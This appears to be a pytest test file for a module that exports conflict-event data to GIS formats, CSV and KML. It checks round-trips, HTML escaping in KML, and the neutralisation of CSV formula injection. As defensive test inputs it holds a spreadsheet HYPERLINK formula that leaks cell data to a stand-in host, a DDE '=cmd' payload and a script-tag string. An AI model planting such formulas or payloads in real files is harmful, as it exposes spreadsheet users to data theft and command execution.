"""Every export format is read back with the same events, text escaped."""
from __future__ import annotations

import csv
import io
import xml.etree.ElementTree as ET

import geopandas as gpd
import pytest

from events.article import parse_article
from events.model import Event
from geo.export import ACLED_COLUMNS, FORMATS, KML_NS, ExportError, export_frame, to_bytes
from geo.filters import Filters
from geo.layer import events_frame, incidents_frame
from geo.store import open_store

NASTY = 'Jets struck <script>alert("x")</script> & "Tom & Jerry" depot.'


def art(name, source, body):
    return parse_article(f"title: {name} <b>\nsource: {source}\npublished: 2015-10-01\n---\n{body}", name=name)


def ev(a, **kw):
    base = dict(article=a.name, type="strike", evidence=a.body, actor="Russia", place="Maarat al-Numan",
                name="Maarat al-Numan", lat=35.648, lon=36.674, country="SY", admin1="Idlib",
                admin1_code="SY.12", precision="point", place_id="gn:1", date="2015-10-01",
                date_precision="day", weapon="Kalibr cruise missiles")
    base.update(kw)
    return Event(**base)


@pytest.fixture(scope="module")
def frames(module_store_targets):
    s = open_store(module_store_targets.new("x.db"))
    a, b, c = art("a", "Reuters", NASTY), art("b", "AFP", "Jets struck Maarat."), art("c", "TASS", "S-400 in Latakia.")
    s.save_extraction(a, [ev(a)], [])
    s.save_extraction(b, [ev(b, lat=35.66, lon=36.70)], [])
    s.save_extraction(c, [ev(c, type="deployment", name="Hmeimim", lat=35.401, lon=35.949, date="2015-09-20",
                             date_from="2015-09-14", date_to="2015-09-20", date_precision="approx",
                             weapon="S-400")], [])
    out = {"events": events_frame(s, Filters()), "incidents": incidents_frame(s, Filters())}
    s.close()
    return out


def ids(frame):
    return sorted(frame["incident_id" if "n_reports" in frame else "event_id"])


@pytest.mark.parametrize("kind", ["events", "incidents"])
@pytest.mark.parametrize("fmt", ["geojson", "gpkg", "parquet"])
def test_gis_formats_read_back(frames, kind, fmt, tmp_path):
    frame = frames[kind]
    path = export_frame(frame, fmt, tmp_path / f"out.{fmt}")
    back = gpd.read_parquet(path) if fmt == "parquet" else gpd.read_file(path, engine="pyogrio")
    assert back.crs.to_epsg() == 4326
    key = "incident_id" if kind == "incidents" else "event_id"
    assert sorted(back[key]) == sorted(frame[key])
    merged = back.set_index(key).loc[frame[key]]
    assert merged.geometry.x.tolist() == pytest.approx(frame.geometry.x.tolist())
    assert list(merged["evidence"]) == list(frame["evidence"])
    if kind == "events":
        assert NASTY in set(merged["evidence"])
    # exporting twice overwrites, not appends
    export_frame(frame, fmt, path)
    again = gpd.read_parquet(path) if fmt == "parquet" else gpd.read_file(path, engine="pyogrio")
    assert len(again) == len(frame)


def test_csv_has_acled_columns_and_round_trips(frames, tmp_path):
    inc = frames["incidents"]
    path = export_frame(inc, "csv", tmp_path / "out.csv")
    with open(path, newline="", encoding="utf-8") as fh:
        rows = list(csv.DictReader(fh))
    assert list(rows[0].keys())[:len(ACLED_COLUMNS)] == ACLED_COLUMNS
    assert sorted(r["event_id"] for r in rows) == ids(inc)
    by_type = {r["type"]: r for r in rows}
    strike, dep = by_type["strike"], by_type["deployment"]
    assert strike["event_type"] == "Explosions/Remote violence"
    assert strike["sub_event_type"] == "Shelling/artillery/missile attack"
    assert strike["source"] == "AFP; Reuters" and strike["n_reports"] == "2"
    assert strike["notes"] in (NASTY, "Jets struck Maarat.")
    assert (strike["geo_precision"], strike["time_precision"]) == ("1", "1")
    assert dep["event_type"] == "Strategic developments" and dep["time_precision"] == "2"
    assert float(dep["latitude"]) == pytest.approx(35.401) and dep["admin1"] == "Latakia"
    reports = list(csv.DictReader(io.StringIO(to_bytes(frames["events"], "csv").decode())))
    assert sorted(r["event_id"] for r in reports) == ids(frames["events"])
    assert NASTY in {r["notes"] for r in reports}


def test_kml_is_valid_xml_with_escaped_text(frames, tmp_path):
    frame = frames["events"]
    path = export_frame(frame, "kml", tmp_path / "out.kml")
    raw = path.read_bytes()
    assert b"<script>" not in raw and b"&lt;script&gt;" in raw
    root = ET.parse(path).getroot()
    ns = {"k": KML_NS}
    assert root.tag == f"{{{KML_NS}}}kml"
    marks = root.findall("k:Document/k:Placemark", ns)
    got = {}
    for pm in marks:
        data = {d.get("name"): d.find("k:value", ns).text for d in pm.findall("k:ExtendedData/k:Data", ns)}
        lon, lat = map(float, pm.find("k:Point/k:coordinates", ns).text.split(","))
        got[data["event_id"]] = (pm.find("k:description", ns).text, lat, lon, data.get("title"))
    assert sorted(got) == ids(frame)
    for row in frame.itertuples():
        desc, lat, lon, title = got[row.event_id]
        assert desc == row.evidence and title == row.title
        assert (lat, lon) == pytest.approx((row.lat, row.lon), abs=1e-6)
    dep = next(pm for pm in marks if pm.find("k:TimeSpan", ns) is not None)
    assert dep.find("k:TimeSpan/k:begin", ns).text == "2015-09-14"


def _ids_in(data: bytes, fmt: str, tmp_path) -> list[str]:
    """The row ids an export's bytes hold, read back with the format's own reader."""
    if fmt == "csv":
        return sorted(r["event_id"] for r in csv.DictReader(io.StringIO(data.decode("utf-8"))))
    if fmt == "kml":
        ns = {"k": KML_NS}
        root = ET.fromstring(data)
        return sorted(pm.find("k:ExtendedData/k:Data/k:value", ns).text
                      for pm in root.findall("k:Document/k:Placemark", ns))
    path = tmp_path / f"back.{fmt}"
    path.write_bytes(data)
    back = gpd.read_parquet(path) if fmt == "parquet" else gpd.read_file(path, engine="pyogrio")
    return sorted(back["incident_id"])


@pytest.mark.parametrize("fmt", FORMATS)
def test_to_bytes_every_format(frames, fmt, tmp_path):
    data = to_bytes(frames["incidents"], fmt)
    assert _ids_in(data, fmt, tmp_path) == ids(frames["incidents"])


@pytest.mark.parametrize("evidence", ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
                                      "+ Coalition aircraft hit a depot.", "-1+2 jets struck.",
                                      "@SUM(1+1)", "\tTabbed", "\rReturn"])
def test_csv_cells_that_start_like_a_formula_are_neutralised(tmp_path, evidence):
    """OWASP CSV injection: a text cell starting with = + - @ tab or CR is read as text."""
    s = open_store(tmp_path / "f.db")
    a = art("f", "=cmd|' /C calc'!A0", evidence)
    s.save_extraction(a, [ev(a, evidence=evidence, actor="-Russia", lat=-33.5, lon=-70.6)], [])
    rows = list(csv.DictReader(io.StringIO(to_bytes(events_frame(s, Filters()), "csv").decode("utf-8"))))
    s.close()
    row = rows[0]
    assert row["notes"] == "'" + evidence
    assert row["actor1"] == "'-Russia"
    assert row["source"] == "'=cmd|' /C calc'!A0"
    assert (row["latitude"], row["longitude"]) == ("-33.50000", "-70.60000")   # numbers stay numbers
    for value in row.values():
        assert not value.startswith(("=", "+", "-", "@", "\t", "\r")) or value in ("-33.50000", "-70.60000")


def test_unknown_format_is_refused(frames, tmp_path):
    with pytest.raises(ExportError, match="unknown format"):
        export_frame(frames["events"], "shp", tmp_path / "x.shp")
